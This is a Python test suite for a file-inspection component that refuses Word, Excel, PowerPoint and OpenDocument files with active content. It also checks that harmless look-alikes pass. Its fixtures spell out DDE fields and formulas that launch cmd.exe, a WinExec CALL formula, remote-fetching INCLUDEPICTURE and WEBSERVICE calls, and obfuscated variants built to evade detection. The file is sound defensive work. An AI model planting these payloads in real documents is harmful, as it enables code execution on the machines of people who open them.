"""Word, Excel and PowerPoint files that act when they are opened are refused; what only looks so is taken."""

import io
import zipfile
from collections.abc import Mapping
from pathlib import Path

import docx
import openpyxl
import pytest

from adapters.evidence.inspection import MIB, Budget, Limits, inspect
from models.common.errors import RefusedError
from tests.adapters.evidence.inspected import DDE, EMBEDDED, refusal, taken
from tests.support.files import OOXML, package, packed, relationships

OLE2 = bytes.fromhex("D0CF11E0A1B11AE1") + bytes(504)
WINDOWS = b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(200)
MACROS = "holds macros; save it without macros"
DTD = "holds a document type (DTD), which could fetch things or swell; save it again with Office"


@pytest.fixture
def file(tmp_path: Path) -> Path:
    return tmp_path / "content"


def word(body: str) -> dict[str, bytes]:
    return {"word/document.xml": f'<w:document xmlns:w="w"><w:body>{body}</w:body></w:document>'.encode()}


def field(*code: str) -> str:
    """A field of Word whose code comes in pieces, with a result."""
    pieces = "".join(one if one.startswith("<") else f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in code)
    begin, separate, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
    return f"{begin}{pieces}{separate}<w:r><w:t>1</w:t></w:r>{end}"


def sheet(cells: str) -> dict[str, bytes]:
    return {"xl/worksheets/sheet1.xml": f'<worksheet xmlns="m"><sheetData>{cells}</sheetData></worksheet>'.encode()}


# ---- DDE


@pytest.mark.parametrize(
    "body",
    [
        field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
        *(field(" dde ", "cmd"), field("DD", "EAUTO cmd"), field("D", "<w:r><w:t>x</w:t></w:r>", "DE cmd")),
        *('<w:fldSimple w:instr=" DDEAUTO cmd"/>', "<w:r><w:instrText>DDE cmd</w:instrText></w:r>"),
        *(field("&#68;DE cmd"), field("<w:r><w:instrText><![CDATA[DDE]]></w:instrText></w:r>")),
        field(field("QUOTE 68 68 69"), "AUTO cmd"),
        field("IF ", field("DDE cmd"), "= 1"),
    ],
)
def test_a_field_that_starts_a_program(body: str, file: Path) -> None:
    assert refusal(package("docx", word(body)), file, "docx") == f"件.docx › word/document.xml: {DDE}"


def test_such_a_field_anywhere_and_in_any_encoding(file: Path) -> None:
    body = f'<w:hdr xmlns:w="w">{field("DDE cmd")}</w:hdr>'
    assert "word/header1.xml" in refusal(package("docx", {"word/header1.xml": body.encode()}), file, "docx")
    assert "word/header1.xml" in refusal(package("docx", {"word/header1.xml": body.encode("utf-16")}), file, "docx")
    assert "word/x.bin" in refusal(
        package("docx", {"word/x.bin": b"<?xml version='1.0'?>" + body.encode()}), file, "docx"
    )


@pytest.mark.parametrize(
    "cells",
    [
        *("<c><f>cmd|'/c calc'!A0</f></c>", "<c><f>cmd&#124;'/c calc'!A0</f></c>", "<c><f>1+cmd|x!A0</f></c>"),
        "<c><f><![CDATA[cmd|'/c calc'!A0]]></f></c>",
    ],
)
def test_a_formula_that_starts_a_program(cells: str, file: Path) -> None:
    assert refusal(package("xlsx", sheet(cells)), file, "xlsx") == f"件.xlsx › xl/worksheets/sheet1.xml: {DDE}"


def test_a_name_and_a_link_that_start_a_program(file: Path) -> None:
    names = b'<workbook xmlns="m"><definedNames><definedName name="a">cmd|x!A0</definedName></definedNames></workbook>'
    assert DDE in refusal(package("xlsx", {"xl/workbook.xml": names}), file, "xlsx")
    link = b'<externalLink xmlns="m"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    assert DDE in refusal(package("xlsx", {"xl/externalLinks/externalLink1.xml": link}), file, "xlsx")


@pytest.mark.parametrize(
    ("suffix", "parts"),
    [
        ("docx", word(field("TOC \\o", field("PAGEREF _1")) + field("PAGE") + "<w:t>DDE cmd|x!A0</w:t>")),
        ("docx", word(field("HYPERLINK ", "&quot;https://example.org/DDE&quot;"))),
        ("docx", word(field("INCLUDEPICTURE &quot;C:\\Users\\a\\Temp\\1.png&quot; \\* MERGEFORMATINET"))),
        ("docx", word(field("IF ", field("MERGEFIELD a"), "= 1"))),
        ("xlsx", sheet('<c><f>A1&amp;"|"&amp;一月!B1</f></c><c><f>\'a|b\'!A1</f></c><c t="str"><v>a|b!c</v></c>')),
        ("xlsx", {"xl/sharedStrings.xml": b'<sst xmlns="m"><si><t>=cmd|x!A0</t></si></sst>'}),
    ],
)
def test_what_only_looks_so_is_taken(suffix: str, parts: Mapping[str, bytes], file: Path) -> None:
    assert taken(package(suffix, parts), file, suffix).name == f"件.{suffix}"


def test_what_would_take_too_long_to_read_is_refused(file: Path) -> None:
    file.write_bytes(package("xlsx", sheet("<c><f>A1</f></c>" * 10_000 + "<c><t>a|b</t></c>")))
    assert inspect(file, "件.xlsx", Limits(), Budget(MIB, xml=2 * MIB))
    with pytest.raises(RefusedError, match=r"sheet1\.xml: is too large to be looked through"):
        inspect(file, "件.xlsx", Limits(), Budget(MIB, xml=100_000))


# ---- what is fetched, embedded or run


@pytest.mark.parametrize(
    ("suffix", "part", "kind"),
    [
        ("docx", "word/_rels/settings.xml.rels", "attachedTemplate"),
        ("docx", "word/_rels/document.xml.rels", "oleObject"),
        ("docx", "word/_rels/document.xml.rels", "image"),
        ("docx", "WORD/_RELS/Document.xml.RELS", "subDocument"),
        ("xlsx", "xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath"),
        ("pptx", "ppt/slides/_rels/slide1.xml.rels", "video"),
    ],
)
@pytest.mark.parametrize("target", ["https://example.org/a.dotm", "file:///C:/a.dotm", "\\\\example.org\\a.dotm"])
def test_what_is_fetched_when_it_is_opened(suffix: str, part: str, kind: str, target: str, file: Path) -> None:
    for is_external in (True, False):  # some programs do not mind
        content = package(suffix, {part: relationships((kind, target, is_external))})
        assert refusal(content, file, suffix) == (
            f"件.{suffix}: fetches {target} when it is opened; break the link, or put what it leads to into the file"
        )


def test_hyperlinks_are_taken(file: Path) -> None:
    links = relationships(("hyperlink", "https://example.org", True), ("hyperlink", "mailto:a@example.org", True))
    assert taken(package("docx", {"word/_rels/document.xml.rels": links}), file, "docx")


@pytest.mark.parametrize("kind", ["oleObject", "control", "aFChunk"])
def test_embedded_objects(kind: str, file: Path) -> None:
    said = relationships((kind, "embeddings/a.bin", False))
    content = package("docx", {"word/_rels/document.xml.rels": said, "word/embeddings/a.bin": b"1"})
    assert refusal(content, file, "docx") == f"件.docx › word/embeddings/a.bin: {EMBEDDED}"


@pytest.mark.parametrize("suffix", ["docx", "xlsx", "pptx"])
@pytest.mark.parametrize("content", [OLE2, WINDOWS, b"\x7fELF" + bytes(60), packed({"a.exe": b"MZ"})])
def test_programs_by_whatever_name(suffix: str, content: bytes, file: Path) -> None:
    assert refusal(package(suffix, {"media/image1.png": content}), file, suffix) == (
        f"件.{suffix} › media/image1.png: {EMBEDDED}"
    )


@pytest.mark.parametrize("name", ["word/vbaProject.bin", "word/vbaProject.BIN", "VBAPROJECT.bin"])
def test_macros_by_name(name: str, file: Path) -> None:
    assert refusal(package("docx", {name: b"1"}), file, "docx") == f"件.docx: {MACROS}"


@pytest.mark.parametrize(
    "media_type",
    [
        "application/vnd.ms-office.vbaProject",
        "application/vnd.ms-excel.macrosheet+xml",
        "application/vnd.ms-excel.intlmacrosheet+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    ],
)
def test_macros_by_type(media_type: str, file: Path) -> None:
    said = f'<Override PartName="/xl/a.bin" ContentType="{media_type}"/>'
    assert refusal(package("xlsx", {"xl/a.bin": b"1"}, types=said), file, "xlsx") == f"件.xlsx: {MACROS}"
    assert taken(package("xlsx", types=said), file, "xlsx"), "a type of nothing is left behind by programs"


@pytest.mark.parametrize("part", ["xl/embeddings/oleObject1.bin", "xl/activeX/activeX1.xml", "xl/media/a.EXE", "a.js"])
def test_objects_and_programs_by_name(part: str, file: Path) -> None:
    said = refusal(package("xlsx", {part: b"<a/>"}), file, "xlsx")
    assert said.lower() == f"件.xlsx › {part}: {EMBEDDED}".lower()
    settings = {"xl/printerSettings/printerSettings1.bin": b"1"}
    assert taken(package("xlsx", settings), file, "xlsx"), "what Office itself calls so"


def test_macro_sheets_by_name(file: Path) -> None:
    assert refusal(package("xlsx", {"xl/macroSheets/sheet1.xml": b"<a/>"}), file, "xlsx") == f"件.xlsx: {MACROS}"


def test_macros_by_relationship(file: Path) -> None:
    for kind in ("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "vbaProject"):
        said = relationships((kind, "a.bin", False))
        assert refusal(package("xlsx", {"xl/_rels/workbook.xml.rels": said}), file, "xlsx") == f"件.xlsx: {MACROS}"


@pytest.mark.parametrize(
    "said",
    [
        '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
        '<!DOCTYPE a SYSTEM "https://example.org/a.dtd"><a/>',
        '<?xml version="1.0"?><!-- --><!DOCTYPE a><a/>',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_document_types(said: str, encoding: str, file: Path) -> None:
    for part in ("word/document.xml", "_rels/.rels", "[Content_Types].xml", "customXml/item1.xml", "word/a.bin"):
        assert DTD in refusal(package("docx", {part: said.encode(encoding)}), file, "docx")


def test_a_document_type_in_other_documents(file: Path) -> None:
    odt = {"mimetype": b"application/vnd.oasis.opendocument.text"}
    harmless = (
        b'<!DOCTYPE manifest:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><manifest/>'
    )
    assert taken(packed(odt | {"META-INF/manifest.xml": harmless}), file, "odt")
    assert DTD in refusal(packed(odt | {"content.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}), file, "odt")
    assert DTD in refusal(packed({"OFD.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}), file, "ofd")


def test_macros_and_objects_of_open_documents(file: Path) -> None:
    odt = {"mimetype": b"application/vnd.oasis.opendocument.text", "Basic/Standard/script-lb.xml": b"<a/>"}
    assert taken(packed(odt), file, "odt")
    for name in ("Basic/Standard/Module1.xml", "Scripts/python/a.py"):
        assert refusal(packed(odt | {name: b"<a/>"}), file, "odt") == f"件.odt: {MACROS}"
    assert refusal(packed(odt | {"Object 1": OLE2}), file, "odt") == f"件.odt › Object 1: {EMBEDDED}"


# ---- before 2007


def bound(kind: int, name: bytes = b"Macro1", length: int = 8) -> bytes:
    """What a workbook says of one of its sheets."""
    return (
        b"\x85\0" + (length + len(name)).to_bytes(2, "little") + b"\x10\x20\0\0\0" + bytes([kind, len(name), 0]) + name
    )


@pytest.mark.parametrize(
    ("suffix", "content"),
    [
        *(("doc", "_VBA_PROJECT".encode("utf-16-le")), ("xls", "_vba_Project".encode("utf-16-le"))),
        *(("xls", bound(1)), ("et", bound(1, b"x" * 31)), ("xls", bytes(256 * 1024 - 520) + bound(1, length=7))),
        ("ppt", b"\x02\0\0\x04\x0c\0\0\0\x07\0\0\0\x01\0\0\0\x02\0\0\0"),
    ],
)
def test_macros_of_old_files(suffix: str, content: bytes, file: Path) -> None:
    assert refusal(OLE2 + content, file, suffix) == f"件.{suffix}: {MACROS}"


@pytest.mark.parametrize("content", [bound(0), bound(2), bound(1)[:3] + b"\0\0", "VBA".encode("utf-16-le")])
def test_old_files_without_macros(content: bytes, file: Path) -> None:
    assert taken(OLE2 + content, file, "xls").size == 512 + len(content)


def test_passwords_and_packages_of_old_files(file: Path) -> None:
    password = refusal(OLE2 + "EncryptedPackage".encode("utf-16-le"), file, "doc")
    assert password == "件.doc: is protected by a password; hand it in without one"
    package_of = "\x01Ole10Native".encode("utf-16-le")
    assert refusal(OLE2 + package_of, file, "doc") == f"件.doc › Ole10Native: {EMBEDDED}"


# ---- documents in documents


def test_the_table_of_a_chart_is_a_document_like_any_other(file: Path) -> None:
    chart = {"word/charts/_rels/chart1.xml.rels": relationships(("package", "../embeddings/a.xlsx", False))}
    assert taken(package("docx", chart | {"word/embeddings/a.xlsx": package("xlsx")}), file, "docx")
    bad = package("xlsx", sheet("<c><f>cmd|x!A0</f></c>"))
    assert refusal(package("docx", chart | {"word/embeddings/a.xlsx": bad}), file, "docx") == (
        f"件.docx › word/embeddings/a.xlsx › xl/worksheets/sheet1.xml: {DDE}"
    )


def test_documents_in_documents_without_end(file: Path) -> None:
    content = package("docx")
    for _ in range(200):
        content = package("docx", {"word/embeddings/a.docx": content})
    assert refusal(content, file, "docx").endswith(f"a.docx: {EMBEDDED}")


def test_in_a_zip_too(file: Path) -> None:
    content = packed({"报告.docx": package("docx", word(field("DDE cmd")))})
    assert refusal(content, file, "zip") == f"件.zip › 报告.docx › word/document.xml: {DDE}"


def test_what_programs_write_is_taken(file: Path) -> None:
    report, book = io.BytesIO(), io.BytesIO()
    made = docx.Document()
    made.add_heading("报告")
    made.add_table(2, 2)
    made.save(report)
    workbook = openpyxl.Workbook()
    sheet_of = workbook.active
    assert sheet_of is not None
    sheet_of.append(["a|b", "=SUM(A1:A2)", '=A1&"|"'])
    workbook.save(book)
    assert taken(report.getvalue(), file, "docx").media_type == OOXML + "wordprocessingml.document"
    assert taken(book.getvalue(), file, "xlsx").media_type == OOXML + "spreadsheetml.sheet"
    assert zipfile.is_zipfile(file)


# ---- What is fetched from elsewhere by a field or a formula


@pytest.mark.parametrize(
    ("body", "place"),
    [
        (field('INCLUDEPICTURE "http://a.cn/1.png" \\d'), "http://a.cn/1.png"),
        (field(' includepicture \\d "https://a.cn/1.png"'), "https://a.cn/1.png"),
        (field("INCLUDE", 'TEXT "\\\\\\\\server\\\\x.docx"'), "\\\\\\\\server\\\\x.docx"),
        (field("IMPORT file:///x.png"), "file:///x.png"),
        (field("INCLUDEPICTURE ", field("QUOTE 104 116 116 112")), "INCLUDEPICTURE"),
        (field(' LINK Excel.Sheet.12 "C:\\\\x.xlsx" R1C1'), "LINK"),
        (field('DATABASE \\d "C:\\\\x.mdb" \\c "DSN=x"'), "DATABASE"),
        ('<w:fldSimple w:instr="INCLUDETEXT http://a.cn/x.docx"/>', "http://a.cn/x.docx"),
    ],
)
def test_a_field_that_brings_in_something_from_elsewhere(body: str, place: str, file: Path) -> None:
    fetches = f"fetches {place} when it is opened; break the link, or put what it leads to into the file"
    assert refusal(package("docx", word(body)), file, "docx") == f"件.docx: {fetches}"


def test_fields_of_every_day(file: Path) -> None:
    """Programs leave where a picture came from that was pasted, on the writer's own disk."""
    fields = (
        'INCLUDEPICTURE "C:\\\\Temp\\\\wps1.png" \\* MERGEFORMATINET',
        "HYPERLINK https://www.gov.cn",
        "RDX",
        "TOC \\o",
    )
    assert taken(package("docx", word("".join(map(field, fields)))), file, "docx")


@pytest.mark.parametrize(
    ("formula", "words"),
    [
        ('_xlfn.WEBSERVICE("http://a.cn/"&amp;A1)', "fetches WEBSERVICE when it is opened"),
        ('_xlfn.image ("http://a.cn/1.png")', "fetches image when it is opened"),
        ('WEB<!-- -->SERVICE("http://a.cn/")', "fetches WEBSERVICE when it is opened"),
        ('RTD("a.server",,"x")', DDE),
        ('CALL("kernel32","WinExec","JCJ","calc",0)', DDE),
        ('REGISTER.ID("x","y")', DDE),
    ],
)
def test_a_formula_that_fetches_or_starts_something(formula: str, words: str, file: Path) -> None:
    assert words in refusal(package("xlsx", sheet(f"<c><f>{formula}</f></c>")), file, "xlsx")


def test_formulas_of_every_day_that_look_so(file: Path) -> None:
    cells = '<c><f>RECALL(1)+MYIMAGE (2)</f></c><c><f>"WEBSERVICE("&amp;A1</f></c><c><f>IMAGE+RTD</f></c>'
    assert taken(package("xlsx", sheet(cells)), file, "xlsx")


# ---- Pictures that cannot be handed in alone


HUGE = 65_000
PICTURES = {
    "gif": b"GIF89a" + HUGE.to_bytes(2, "little") * 2,
    "bmp": b"BM"
    + bytes(12)
    + (40).to_bytes(4, "little")
    + HUGE.to_bytes(4, "little")
    + (-HUGE).to_bytes(4, "little", signed=True),
    "old.bmp": b"BM" + bytes(12) + (12).to_bytes(4, "little") + HUGE.to_bytes(2, "little") * 2,
    "extended.webp": b"RIFF\0\0\0\0WEBPVP8X" + bytes(8) + (HUGE - 1).to_bytes(3, "little") * 2,
    "tif": b"II*\0\x08\0\0\0\x02\0"
    + b"".join(tag.to_bytes(2, "little") + b"\x03\0\x01\0\0\0" + HUGE.to_bytes(4, "little") for tag in (256, 257))
    + bytes(4),
    "big.tif": b"MM\0*\0\0\0\x08\0\x02"
    + b"".join(tag.to_bytes(2) + b"\0\x04\0\0\0\x01" + HUGE.to_bytes(4) for tag in (256, 257))
    + bytes(4),
}


@pytest.mark.parametrize("name", PICTURES)
def test_a_document_with_a_picture_of_too_many_pixels(name: str, file: Path) -> None:
    said = refusal(package("docx", {f"word/media/1.{name}": PICTURES[name]}), file, "docx")
    size = f"{HUGE} × {HUGE} pixels, at most 300 million are accepted; scan or save it smaller"
    assert said == f"件.docx › word/media/1.{name}: has {size}"
    small = PICTURES[name].replace(HUGE.to_bytes(2, "little"), b"\x64\0").replace(HUGE.to_bytes(2), b"\0\x64")
    if name not in {"bmp", "extended.webp"}:
        assert taken(package("docx", {f"word/media/1.{name}": small}), file, "docx")


@pytest.mark.parametrize(
    "cut", [b"GIF89a", b"BM" + bytes(12), b"RIFF\0\0\0\0WEBPVP8L", b"II*\0\x08\0\0\0", b"MM\0*\xff\xff\xff\xff"]
)
def test_a_picture_that_is_cut_off_is_no_large_one(cut: bytes, file: Path) -> None:
    assert taken(package("docx", {"word/media/1.x": cut}), file, "docx")
